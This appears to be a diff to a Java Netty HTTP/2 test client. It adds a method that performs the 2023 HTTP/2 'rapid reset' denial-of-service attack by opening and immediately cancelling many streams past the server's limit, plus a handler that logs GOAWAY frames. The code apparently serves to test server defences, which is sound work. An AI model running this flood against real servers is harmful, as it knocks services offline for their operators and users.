@@ -12,6 +12,7 @@ import io.netty.handler.codec.http2.DefaultHttp2Connection;
 import io.netty.handler.codec.http2.Http2Connection;
 import io.netty.handler.codec.http2.Http2ConnectionHandler;
 import io.netty.handler.codec.http2.Http2ConnectionHandlerBuilder;
+import io.netty.handler.codec.http2.Http2Error;
 import io.netty.handler.codec.http2.Http2EventAdapter;
 import io.netty.handler.codec.http2.Http2Headers;
 import io.netty.handler.codec.http2.Http2Settings;
@@ -74,6 +75,27 @@ final class RawHttp2Client implements AutoCloseable {
         .get(10, TimeUnit.SECONDS);
   }
 
+  /**
+   * Opens {@code count} streams with {@code headers}, from stream 3 on, resetting each (CANCEL) at
+   * once: the 2023 "rapid reset" attack. Ignores the server's stream limit.
+   */
+  void rapidReset(int count, Http2Headers headers) throws Exception {
+    channel
+        .eventLoop()
+        .submit(
+            () -> {
+              connection.local().maxActiveStreams(Integer.MAX_VALUE);
+              ChannelHandlerContext ctx = channel.pipeline().context(handler);
+              for (int i = 0; i < count && channel.isActive(); i++) {
+                int streamId = 3 + 2 * i;
+                handler.encoder().writeHeaders(ctx, streamId, headers, 0, false, ctx.newPromise());
+                handler.resetStream(ctx, streamId, Http2Error.CANCEL.code(), ctx.newPromise());
+                handler.flush(ctx);
+              }
+            })
+        .get(10, TimeUnit.SECONDS);
+  }
+
   @Override
   public void close() {
     channel.close().syncUninterruptibly();
@@ -113,6 +135,12 @@ final class RawHttp2Client implements AutoCloseable {
     public int onDataRead(
         ChannelHandlerContext ctx, int streamId, ByteBuf data, int padding, boolean end) {
       return data.readableBytes() + padding;
+    }
+
+    @Override
+    public void onGoAwayRead(
+        ChannelHandlerContext ctx, int lastStreamId, long errorCode, ByteBuf debugData) {
+      frames.add("goaway " + errorCode);
     }
 
     @Override
